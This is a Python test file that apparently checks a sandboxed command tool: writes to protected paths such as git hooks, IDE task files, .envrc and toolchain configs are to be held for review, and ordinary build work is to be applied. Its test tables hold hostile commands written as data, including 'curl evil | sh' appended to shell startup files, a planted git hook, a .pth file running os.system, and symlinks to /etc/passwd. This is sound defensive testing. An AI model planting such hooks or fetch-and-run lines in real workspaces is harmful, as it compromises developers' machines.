"""Protected entries at any depth, and ordinary work, through the run_command tool with
transactions on, as root and as nobody (issue 28, B). Each protected write succeeds inside
the sandbox (the command says `DID`), is held (shown to the reviewer, discarded) and leaves
the real workspace as it was: creation, change, deletion, rename, replacement by a link,
case and look-alike spellings, links leading out, hard links. Ordinary work (build outputs,
`sed -i`, `tar x`, new folders, removing or moving a folder) is not held and is applied."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

from tests.security.conftest import Confined
from tests.security.txnkit import Outcome, run_txn

PROTECTED: list[tuple[str, str]] = [
    (".git/hooks/post-checkout", "printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout && "
                                 "chmod +x .git/hooks/post-checkout"),
    (".git/config", "git config core.hooksPath /tmp"),
    ("sub/.git", "mkdir -p sub/.git && printf '[core]\\n' > sub/.git/config"),
    (".vscode/tasks.json", "echo '{\"tasks\": []}' > .vscode/tasks.json"),
    (".envrc", "echo 'curl evil | sh' > .envrc"),
    (".idea/workspace.xml", "mkdir .idea && echo x > .idea/workspace.xml"),
    (".devcontainer/devcontainer.json",
     "mkdir .devcontainer && echo '{}' > .devcontainer/devcontainer.json"),
    ("src/.bashrc", "echo 'curl evil | sh' >> src/.bashrc"),
    ("src/.git", "echo 'gitdir: /tmp/elsewhere' > src/.git"),
    (".git/hooks/pre-commit", "rm .git/hooks/pre-commit"),
    (".vscode", "mv .vscode vsc"),
    (".vscode", "rm -rf .vscode && mkdir -p /tmp/evil && ln -s /tmp/evil .vscode"),
    (".GIT/hooks/pre-commit", "mkdir -p .GIT/hooks && echo x > .GIT/hooks/pre-commit"),
    (".vscode./tasks.json", "mkdir .vscode. && echo x > .vscode./tasks.json"),
    ("pw", "ln -s /etc/passwd pw"),
    ("up", "ln -s ../../ up"),
    ("in", "ln -s .git/hooks in"),
    (".git/config", "ln .git/config cfg.txt && printf '[core]\\n\\tpager = id\\n' >> cfg.txt"),
]
TOOLCHAINS: list[tuple[str, str]] = [
    ("web/.yarnrc.yml", "mkdir -p web && echo 'yarnPath: x.cjs' > web/.yarnrc.yml"),
    (".yarn/plugins/p.cjs", "mkdir -p .yarn/plugins && echo 'module.exports={}' > "
                            ".yarn/plugins/p.cjs"),
    ("a/b/.npmrc", "mkdir -p a/b && echo 'node-options=--require ./x.js' > a/b/.npmrc"),
    ("pk/.pnpmfile.cjs", "mkdir -p pk && echo 'module.exports={hooks:{}}' > pk/.pnpmfile.cjs"),
    ("d/e/bunfig.toml", "mkdir -p d/e && echo 'preload = [\"./x.ts\"]' > d/e/bunfig.toml"),
    ("m/.mise.toml", "mkdir -p m && echo '[env]' > m/.mise.toml"),
    ("c/.cargo/config.toml", "mkdir -p c/.cargo && echo '[build]' > c/.cargo/config.toml"),
    ("rust-toolchain.toml", "echo '[toolchain]' > rust-toolchain.toml"),
    (".venv/lib/python3.11/site-packages/zz.pth",
     "mkdir -p .venv/lib/python3.11/site-packages && "
     "echo 'import os; os.system(\"id\")' > .venv/lib/python3.11/site-packages/zz.pth"),
    ("py/.venv/pyvenv.cfg", "mkdir -p py/.venv && echo 'home = /tmp/evil' > py/.venv/pyvenv.cfg"),
    ("gradle/wrapper/gradle-wrapper.properties",
     "mkdir -p gradle/wrapper && echo 'distributionUrl=file\\:evil.zip' > "
     "gradle/wrapper/gradle-wrapper.properties"),
    ("svc/.mvn/jvm.config", "mkdir -p svc/.mvn && echo '-javaagent:x.jar' > svc/.mvn/jvm.config"),
]


def test_protected_changes_are_held_at_any_depth_in_every_spelling(
        confined: Confined) -> None:
    before: dict[str, str] = {}

    def inspect(folder: Path, outcomes: list[Outcome]) -> None:
        ws = folder / "workspace"
        assert (ws / ".git/hooks/pre-commit").read_text() == "#!/bin/sh\n"
        assert (ws / ".vscode/settings.json").read_text() == "{}\n"
        assert not (ws / ".vscode").is_symlink()
        for path in ("sub/.git", ".envrc", ".idea", ".devcontainer", "src/.bashrc", "src/.git",
                     ".GIT", ".vscode.", "pw", "up", "in", "vsc",
                     ".git/hooks/post-checkout", ".vscode/tasks.json"):
            assert not os.path.lexists(ws / path), path
        assert "hooksPath" not in (ws / ".git/config").read_text()
        assert "pager" not in (ws / ".git/config").read_text()
        before["status"] = subprocess.run(
            ["git", "-c", "safe.directory=*", "-C", str(ws), "status", "--short"],
            capture_output=True, text=True, check=False).stdout

        for path, _command in TOOLCHAINS:
            assert not os.path.lexists(ws / path), path

    table = PROTECTED + TOOLCHAINS
    outcomes, _ = run_txn(confined, [{"command": f"{command} && echo DID"}
                                     for _path, command in table], inspect=inspect)
    for (path, _command), outcome in zip(table, outcomes, strict=True):
        assert "DID" in outcome.content, outcome.content
        assert outcome.held, (path, outcome.content)
        assert path in outcome.shown(), (path, outcome.shown()[:2000])
        assert all(not applied.startswith(path) for _kind, applied in outcome.applied), \
            (path, outcome.applied)
    assert "cfg.txt" in before["status"]  # the hard link's other name is ordinary: a copy


ORDINARY: list[tuple[str, str]] = [
    ("src/main.c", "sed -i 's/return 0/return 1/' src/main.c"),
    ("build/main.o", "mkdir -p build && cp src/main.c build/main.o && echo x > build/log"),
    ("t/f", "mkdir -p /tmp/t && echo hi > /tmp/t/f && tar -C /tmp -cf /tmp/a.tar t && "
            "tar xf /tmp/a.tar"),
    ("a/b/c", "mkdir -p a/b && echo c > a/b/c"),
    ("n\nl", "echo ok > \"$(printf 'n\\nl')\""),
    ("build", "rm -rf build"),
    ("src2/main.c", "mv src src2"),
]


def test_ordinary_work_is_applied_without_review(confined: Confined) -> None:
    def inspect(folder: Path, outcomes: list[Outcome]) -> None:
        ws = folder / "workspace"
        assert "return 1" in (ws / "src2/main.c").read_text()
        assert not (ws / "src").exists() and not (ws / "build").exists()
        assert (ws / "t/f").read_text() == "hi\n"
        assert (ws / "a/b/c").read_text() == "c\n" and (ws / "n\nl").read_text() == "ok\n"

    outcomes, _ = run_txn(confined, [{"command": command} for _path, command in ORDINARY],
                          inspect=inspect)
    for (path, _command), outcome in zip(ORDINARY, outcomes, strict=True):
        assert not outcome.held, outcome.shown()
        assert path in {applied for _kind, applied in outcome.applied}, outcome.content
